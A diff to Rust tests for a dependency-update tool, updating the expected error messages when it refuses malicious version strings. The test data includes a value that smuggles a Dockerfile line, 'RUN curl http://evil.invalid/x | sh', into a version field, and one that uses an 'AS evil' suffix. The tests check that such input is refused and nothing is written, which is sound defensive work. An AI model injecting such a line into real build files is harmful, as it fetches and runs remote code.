@@ -143,10 +143,11 @@ fn a_version_that_would_inject_a_line_is_refused_and_writes_nothing() {
     assert_eq!(out.status.code(), Some(1));
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(
-        stderr.contains("refusing version \"9.0.2\\nRUN curl http://evil.invalid/x | s…\""),
+        stderr.contains(
+            "--asset Contoso.Runtime: version \"9.0.2\\nRUN curl http://evil.invalid/x | s…\""
+        ),
         "{stderr}"
     );
-    assert!(stderr.contains("\"Contoso.Runtime\""), "{stderr}");
     assert!(
         !stderr.contains("RUN curl http://evil.invalid/x | sh\n"),
         "{stderr}"
@@ -359,9 +360,8 @@ fn native_references_refuse_a_version_outside_their_grammar() {
     assert_eq!(out.status.code(), Some(1));
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(
-        stderr.contains(
-            "Dockerfile: refusing version \"9.0.2 AS evil\" of dependency \"Contoso.Runtime\""
-        ),
+        // Refused at the door; the writers' own refusal is tested in the core.
+        stderr.contains("--asset Contoso.Runtime: version \"9.0.2 AS evil\": contains ' '"),
         "{stderr}"
     );
     for path in [".sluice/dependencies.yaml", "Cargo.toml", "Dockerfile"] {
